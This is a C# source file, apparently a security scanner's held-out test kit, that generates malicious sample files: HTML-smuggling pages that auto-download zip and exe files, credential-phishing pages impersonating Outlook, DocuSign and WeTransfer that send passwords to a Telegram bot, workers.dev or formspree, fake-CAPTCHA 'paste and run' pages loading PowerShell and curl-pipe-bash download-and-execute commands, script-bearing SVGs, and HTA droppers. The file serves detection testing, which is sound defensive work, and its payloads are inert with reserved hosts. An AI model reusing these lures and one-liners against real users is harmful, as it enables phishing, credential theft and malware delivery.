using System.Globalization;

namespace ScanHost.TestKit.HeldOut;

/// <summary>Pages that make a file out of themselves, in other layouts.</summary>
public sealed class SmugglingPages : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = InertFiles.Zip(("Scan_0231.js", "WScript.Echo(1);"u8.ToArray()), ("readme.txt", new byte[900]));
        var base64 = Convert.ToBase64String(zip);
        var exe = Convert.ToBase64String(InertFiles.Pe(2048));
        var pieces = string.Join(",", base64.Chunk(40).Select(chunk => $"\"{new string(chunk)}\""));
        var xored = string.Join(",", zip.Select(one => (one ^ 0x5A).ToString(CultureInfo.InvariantCulture)));
        var nested = Base64($"<html><body><script>var k=atob(\"{exe}\"),z=[];for(var q=0;q<k.length;q++)z.push(k.charCodeAt(q));var o=new Blob([new Uint8Array(z)],{{type:\"application/x-msdownload\"}});var l=document.createElement(\"a\");l.href=window.URL.createObjectURL(o);l.download=\"setup.exe\";l.click()</script></body></html>");
        return Texts("html",
            $"<!doctype html>\n<html lang=en><head><meta charset=utf-8><title>Secure document</title></head>\n<body>\n<p>Please wait while your document is prepared...</p>\n<script>\n  const chunks = [{pieces}];\n  function toBytes(text) {{\n    const raw = window[\"at\" + \"ob\"](text);\n    const out = new Uint8Array(raw.length);\n    raw.split(\"\").forEach((c, i) => out[i] = c.charCodeAt(0));\n    return out;\n  }}\n  window.addEventListener(\"DOMContentLoaded\", () => {{\n    const blob = new window[\"Bl\" + \"ob\"]([toBytes(chunks.join(\"\"))], {{ type: \"application/zip\" }});\n    const link = document.createElement(\"a\");\n    link.setAttribute(\"download\", \"Scan_0231.zip\");\n    link.setAttribute(\"href\", URL[\"createObject\" + \"URL\"](blob));\n    link.dispatchEvent(new MouseEvent(\"click\"));\n  }});\n</script></body></html>",
            $"<HTML><BODY><DIV ID=pl STYLE='display:none'>{base64}</DIV><SCRIPT>\nvar t=document.getElementById('pl').innerText.trim();\nfetch('data:application/zip;base64,'+t).then(function(r){{return r.blob()}}).then(function(b){{var e=document.createElement('A');e.href=window.URL.createObjectURL(b);e.download='Remittance.zip';document.body.append(e);e.click();}});\n</SCRIPT></BODY></HTML>",
            $"<html><head><script>\nvar enc = [{xored}];\nfor (var n = 0; n < enc.length; n++) {{ enc[n] = enc[n] ^ 0x5a; }}\nvar file = new Blob([new Uint8Array(enc)], {{type: 'application/octet-stream'}});\nif (window.navigator.msSaveBlob) {{ window.navigator.msSaveBlob(file, 'Statement.zip'); }} else {{ location.assign(URL.createObjectURL(file)); }}\n</script></head><body>Loading</body></html>",
            $"<html><body onload=\"document.getElementById('dl').click()\"><h3>Adobe Document Cloud</h3><a id=\"dl\" href=\"data:application/octet-stream;base64,{exe}\" download=\"Invoice.exe\">If the download does not start, click here</a></body></html>",
            $"<html><body><embed src=\"data:text/html;base64,{nested}\" width=\"100%\" height=\"100%\"></body></html>",
            $"<html><body><script>let s=\"{new string([.. base64.Reverse()])}\";let d=s.split('').reverse().join('');let bin=atob(d);let len=bin.length;let arr=new Uint8Array(len);while(len--)arr[len]=bin.charCodeAt(len);let f=new File([arr],'DOC.zip',{{type:'application/zip'}});let u=(window.URL||window.webkitURL).createObjectURL(f);window.open(u,'_self');</script></body></html>");
    }
}

/// <summary>Pages that steal passwords, built another way.</summary>
public sealed class PhishingPages : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string Form = "<div class='box'><img src='https://logo.clearbit.com/microsoft.com'><h2>Sign in to Outlook</h2><form method='POST' action='https://mail-verify.invalid/next.php'><input name='login' type='email' value='bob@victim.invalid'><input name='passwd' type='password' placeholder='Password'><button>Sign in</button></form></div>";
        var percent = string.Concat(Form.Select(letter => $"%{(int)letter:X2}"));
        return Texts("htm",
            $"<script language=\"javascript\">document.write(decodeURIComponent('{percent}'));</script>",
            $"<html><head><title>Sign in to your account</title></head><body><script>document.documentElement.innerHTML = atob('{Base64(Form)}');</script></body></html>",
            "<!DOCTYPE html><html><head><title>Excel Online | Shared file</title><script src=\"https://code.jquery.com/jquery-3.1.1.min.js\"></script></head><body style=\"background:url(blurred.png)\"><input id=\"em\" type=\"email\" value=\"ann@victim.invalid\" readonly><input id=\"pw\" type=\"password\"><button id=\"go\">View document</button><script>$('#go').click(function(e){e.preventDefault();$.post('https://api.telegram.org/bot123456:AAxx/sendMessage',{chat_id:'1',text:$('#em').val()+':'+$('#pw').val()});setTimeout(function(){location.replace('https://office.com')},900)});</script></body></html>",
            "<html><head><title>Webmail :: Session expired</title></head><body><form onsubmit=\"send(event)\"><label>Email</label><input id=u value=\"\"><label>Password</label><input id=p type='password' required></form><script>document.getElementById('u').value=location.hash.substr(1)||atob('Ym9iQHZpY3RpbS5pbnZhbGlk');function send(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://wispy-sun-12.workers.dev/',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('a='+u.value+'&b='+p.value)}</script></body></html>",
            "<html><body><title>DocuSign - Review</title><form action='//198.51.100.23/~a/post.php' method=post><input type=text name=user><input type=PASSWORD name=pass><input type=submit value='Continue to DocuSign'></form></body></html>",
            "<html><head><meta name=robots content=noindex><title>WeTransfer</title></head><body><script>const k='https://formspree.io/f/abcd';document.body.innerHTML='<form id=f><input type=email name=e><input type=pass'+'word name=p><button>Download</button></form>';f.onsubmit=ev=>{ev.preventDefault();fetch(k,{method:'POST',body:new FormData(f)})}</script></body></html>");
    }
}

/// <summary>Pages that have the visitor run a command.</summary>
public sealed class PasteAndRunPages : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("html",
        "<html><body><h1>reCAPTCHA Verification Steps</h1><ol><li>Press Windows Button \"<b>⊞</b>\" + <b>R</b></li><li>Press <b>CTRL+V</b></li><li>Press Enter</li></ol><button onclick=\"c()\">I'm not a robot</button><script>function c(){const el=document.createElement('textarea');el.value='PowerShell.exe -W Hidden -command \"$u=\\'http://192.0.2.44/v.txt\\';$r=iwr -UseBasicParsing $u;iex $r.Content\" # ✅ I am not a robot - reCAPTCHA ID: 4421';document.body.append(el);el.select();document.execCommand('copy');}</script></body></html>",
        "<html><body><div>Word Online: extension is not installed. How to fix</div><p>1. Click the \"Copy fix\" button. 2. Right-click on the Windows icon. 3. Select \"Windows PowerShell (Admin)\". 4. Right-click within the open terminal window to paste and wait.</p><script>var t=atob('" + Base64("powershell -w h -c iex(irm 192.0.2.45/fix)") + "');document.getElementById('b').onclick=()=>navigator.clipboard.writeText(t)</script><button id=b>Copy fix</button></body></html>",
        "<html><body><p>To open the shared file: 1) copy the path below 2) open File Explorer and click the address bar (CTRL + L) 3) paste the path and press Enter</p><script>document.addEventListener('click',()=>{navigator.clipboard.writeText('Powershell.exe -c ping 192.0.2.46; iwr http://192.0.2.46/x -OutFile $env:TEMP\\\\a.exe; start $env:TEMP\\\\a.exe                      # C:\\\\company\\\\HRPolicy.docx')})</script></body></html>",
        "<html><body><h2>Verify you are human</h2><p>Open Terminal (press Command + Space, type Terminal), then paste with ⌘ + V and press Return</p><script>navigator.clipboard.writeText('echo \"" + Base64("curl -s http://192.0.2.47/i.sh | bash") + "\" | base64 -D | bash')</script></body></html>");
}

/// <summary>Drawings that act.</summary>
public sealed class ActingDrawings : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = Convert.ToBase64String(InertFiles.Zip(("a.lnk", new byte[700])));
        return Texts("svg",
            "<?xml version=\"1.0\" standalone=\"no\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"400\"><script type=\"application/ecmascript\"><![CDATA[\nconst h = '" + string.Concat("https://login-portal.invalid/#bob@victim.invalid".Select(letter => $"{(int)letter ^ 7:x2}")) + "';let o='';for(let i=0;i<h.length;i+=2){o+=String.fromCharCode(parseInt(h.substr(i,2),16)^7)}\nwindow.location.href=o;\n]]></script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100%\" height=\"100%\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://signin-check.invalid/owa?e=Ym9iQHZpY3RpbS5pbnZhbGlk\" style=\"width:100%;height:100%\"/></foreignObject></svg>",
            $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image href=\"data:image/png;base64,iVBORw0KGgo=\"/><script>document.addEventListener('DOMContentLoaded',function(){{var b='{zip}';var r=atob(b);var u=new Uint8Array(r.length);for(var i in r)u[i]=r.charCodeAt(i);var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click()}})</script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate onbegin=\"top.location=atob('" + Base64("https://voicemail.invalid/listen?id=9") + "')\" attributeName=\"x\" dur=\"1s\"/><text>You have a new voice message</text></svg>");
    }
}

/// <summary>HTML applications.</summary>
public sealed class Applications : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var codes = string.Join("&", "CreateObject(\"WScript.Shell\").Run \"powershell -w 1 -c iex(irm http://192.0.2.51/a)\",0".Select(letter => $"Chr({(int)letter})"));
        return
        [
            ("order.hta", Utf8("<!DOCTYPE html>\r\n<HTML><HEAD><TITLE>Update</TITLE><HTA:APPLICATION ID=\"x\" BORDER=\"none\" SHOWINTASKBAR=\"no\" SYSMENU=\"no\"/>\r\n<SCRIPT TYPE=\"text/vbscript\">\r\nSub window_onload\r\nSet o = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process\")\r\no.Create \"cmd.exe /c powershell -noni -w hidden iwr http://192.0.2.50/s.exe -o %tmp%\\s.exe & %tmp%\\s.exe\", null, null, pid\r\nself.close\r\nEnd Sub\r\n</SCRIPT></HEAD><BODY></BODY></HTML>")),
            ("a.hta", Utf8($"<script language=\"VBScript\">\nExecuteGlobal {codes}\nClose\n</script>")),
            ("b.hta", Utf8("<html><body><script>var sh=new ActiveXObject('She'+'ll.Appl'+'ication');sh.ShellExecute('powershell','-nop -noni -w hid -c \"(New-Object System.Net.WebClient).DownloadFile(\\'http://192.0.2.52/f.exe\\',$env:tmp+\\'\\\\f.exe\\');start $env:tmp\\\\f.exe\"','','open',0);window.close();</script></body></html>")),
            ("c.hta", Utf8("<HTA:APPLICATION icon=\"#\" WINDOWSTATE=\"minimize\"><script language=\"javascript\">try{var f=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x72\\x75\\x6e','\\x63\\x6d\\x64 /c \\x63\\x75\\x72\\x6c -o %temp%\\\\a.dll http://192.0.2.53/a.dll && rundll32 %temp%\\\\a.dll,Start'];new ActiveXObject(f[0])[f[1]](f[2],0)}catch(e){}</script>")),
        ];
    }
}
